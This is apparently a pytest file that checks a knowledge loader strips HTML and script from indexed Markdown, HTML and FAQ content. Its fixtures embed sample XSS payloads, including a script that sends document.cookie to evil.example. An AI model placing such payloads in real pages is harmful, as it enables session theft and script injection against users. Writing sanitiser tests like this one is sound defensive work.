"""No document puts HTML into what is indexed: texts, titles, sections and FAQ answers are plain
(knowledge/loaders.py strips it once, at ingestion, for every format)."""

from __future__ import annotations

import re

import pytest

from knowledge._textio import strip_tags
from knowledge.loaders import load_file

RAW = re.compile(r"<\s*/?\s*[A-Za-z!?]|onerror\s*=|javascript:", re.I)

MARKDOWN = """---
title: "Returns <img src=x onerror=alert(1)>"
---
# Refunds <script>alert('h1')</script>

Refunds are paid within <b>5 working days</b>.<script>fetch('https://evil.example/'+document.cookie)</script>
<img src=x onerror="alert('>')"> Keep the receipt.<svg/onload=alert(2)>
<a href="javascript:alert(3)">Contact us</a> any time. A kettle of <2 kg ships free if 3 < 5.
"""

HTML = """<html><head><title>&lt;script&gt;alert(1)&lt;/script&gt;Shipping &lt;b&gt;guide&lt;/b&gt;</title></head>
<body><main><h1>Delivery &lt;img src=x onerror=alert(4)&gt;</h1>
<p>Parcels leave within a day. &lt;script&gt;alert(5)&lt;/script&gt;</p></main></body></html>"""

FAQ = """faq:
  - question: "How long do refunds take? <img src=x onerror=alert(6)>"
    answer: "Five working days.<script>alert(7)</script>"
"""


@pytest.mark.parametrize("name, content", [("returns.md", MARKDOWN), ("shipping.html", HTML), ("faq.yaml", FAQ)])
def test_no_markup_survives_loading(tmp_path, name, content):
    path = tmp_path / name
    path.write_text(content)
    loaded = load_file(path)
    fields = [loaded.title] + [t for d in loaded.documents for t in (d.text, d.title, d.section)]
    fields += [t for e in loaded.faq for t in (e.question, e.answer)]
    assert [f for f in fields if RAW.search(f)] == []


def test_what_the_markup_said_stays():
    assert strip_tags("Refunds are paid within <b>5 working days</b>.") == "Refunds are paid within 5 working days."
    assert strip_tags("Press <kbd>Ctrl</kbd>+<kbd>C</kbd>; a kettle of <2 kg; 3 < 5") == "Press Ctrl+C; a kettle of <2 kg; 3 < 5"
    assert strip_tags("<script>alert(1)</script>Hi<!-- note -->") == "Hi"
    assert strip_tags("x <img src=x onerror=alert(1)") == "x img src=x onerror=alert(1)"  # no "<" left to open it


def test_titles_are_plain(tmp_path):
    path = tmp_path / "shipping.html"
    path.write_text(HTML)
    loaded = load_file(path)
    assert loaded.title == "Shipping guide"
    assert {d.section for d in loaded.documents} == {"Delivery"}
